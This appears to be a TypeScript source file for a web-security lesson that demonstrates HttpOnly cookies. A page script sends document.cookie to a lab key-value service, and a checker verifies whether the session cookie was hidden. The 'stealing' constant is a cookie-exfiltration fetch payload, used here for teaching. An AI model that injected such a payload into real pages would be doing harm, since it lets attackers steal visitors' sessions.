import type { Experiment } from '../lesson.ts'
import type { LessonRecord, JoinedExchange } from '../record.ts'
import { hasAttribute, parseSetCookie } from '../../cookie/set-cookie.ts'
import { percentDecoded } from '../../exchange/kv-request.ts'
import {
  countedPages,
  exchangeEvidence,
  isAnswered,
  isByHand,
  kvRequestOf,
  pageEvidence,
  shortValue,
  type Answered,
  type CountedPage,
} from '../exchange-queries.ts'
import type { FromScene } from '../from-scene.ts'
import { step } from '../step.ts'
import { failedVerdict, passed, pending, type Verdict } from '../../stream/verdict.ts'
import { cookieSent } from './requests-with-cookie.ts'

const field = 'document.cookie'

// What a script that was smuggled into the page would do: read the cookies, and send them where it likes.
const stealing: FromScene<string> = {
  join: [
    'fetch("',
    { from: 'address', server: 'kv' },
    `", { method: 'POST', mode: 'no-cors', credentials: 'include', body: new URLSearchParams({ '${field}': document.cookie }) })`,
  ],
}

const check = ({ exchanges, settings }: LessonRecord): Verdict => {
  const name = settings.SESSION_COOKIE_NAME
  const pages = countedPages(exchanges)
  const reports = exchanges.flatMap((seen) => {
    const read = readByScript(seen)
    const page = pages.findLast((one) => one.id < seen.id && one.requested.from === seen.requested.from)
    return read === undefined || page === undefined || !isAnswered(seen) ? [] : [{ report: seen, page, read }]
  })
  const leaked = reports.find(({ page, read }) => isHidden(page) && read.includes(page.value))
  if (leaked !== undefined) {
    return failedVerdict(
      'The script read a cookie that is HttpOnly.',
      'The browser should keep it from scripts. Is this really the cookie of that page?',
      [pageEvidence(leaked.page), exchangeEvidence(leaked.report)],
    )
  }
  const hidden = reports.find(({ page, report }) => isHidden(page) && cookieSent(report, name) === page.value)
  const open = reports.find(({ page, read }) => !isHidden(page) && read.includes(`${name}=${page.value}`))
  if (hidden !== undefined && open !== undefined) {
    return passed(
      'With HttpOnly the script read nothing, though the browser sent the cookie along with its very request. Without it the script read the whole cookie.',
      [
        ...evidenceOf(hidden, 'the script read nothing; the Cookie header has it all the same'),
        ...evidenceOf(open, `the script read ${shortValue(open.read)}`),
      ],
    )
  }
  return pending(
    ['HttpOnly: a script of the page reads `document.cookie` and finds nothing', hidden !== undefined],
    ['without HttpOnly: it finds the session cookie', open !== undefined],
  )
}

/** What a page's script sent to the key-value service as what it could read. */
const readByScript = (seen: JoinedExchange): string | undefined => {
  if (
    seen.requested.to !== 'kv' ||
    seen.requested.method !== 'POST' ||
    !isByHand(seen) ||
    kvRequestOf(seen).verb !== 'other'
  )
    return undefined
  const pair = seen.requested.body.text.split('&').find((one) => one.startsWith(`${field}=`))
  return pair === undefined ? undefined : percentDecoded(pair.slice(field.length + 1).replaceAll('+', ' '))
}

const isHidden = ({ saved }: CountedPage): boolean =>
  saved !== undefined && hasAttribute(parseSetCookie(saved.setCookie), 'http-only')

const evidenceOf = ({ page, report }: { readonly page: CountedPage; readonly report: Answered }, note: string) => [
  pageEvidence(page),
  exchangeEvidence(report, note),
]

/** HttpOnly and document.cookie. */
export const httpOnly: Experiment = {
  kind: 'experiment',
  id: 'http-only',
  title: 'HttpOnly and document.cookie',
  misconception: 'HttpOnly means that the cookie is sent over HTTP only, not over HTTPS.',
  prediction: {
    question: 'A script in the counter’s page reads `document.cookie`. What does it see of an HttpOnly session cookie?',
    choices: ['All of it', 'Its name, but not its value', 'Nothing, though the browser goes on sending it'],
    right: 2,
  },
  needsNative: 'A simulated browser runs no scripts, so nothing there could read `document.cookie`.',
  steps: [
    step('Begin with empty jars, the store off, HttpOnly on', { do: 'prepare', settings: {} }),
    step('Open the counter in Browser A', { do: 'open', browser: 'browser-a', address: '/' }),
    step('A script of the page sends what it can read to the key-value service', {
      do: 'script',
      browser: 'browser-a',
      code: stealing,
    }),
    step('Switch SESSION_COOKIE_HTTPONLY off', { do: 'set', change: { key: 'SESSION_COOKIE_HTTPONLY', value: false } }),
    step('Reload Browser A: the same cookie, without the attribute', { do: 'reload', browser: 'browser-a' }),
    step('The same script again', { do: 'script', browser: 'browser-a', code: stealing }),
  ],
  check,
  explanation: [
    'HttpOnly takes a cookie out of `document.cookie`: it is for HTTP (and HTTPS) requests only, not for scripts. Where an attacker manages to smuggle a script into a page, it cannot carry the session away.',
    'It is no cure for such scripts: while they run they can send requests with the visitor’s cookies, as this one did. But when the page is closed, they are out.',
  ],
  source: 'RFC 6265bis §4.1.2.6 (The HttpOnly Attribute); OWASP Session Management Cheat Sheet, “HttpOnly Attribute”',
}
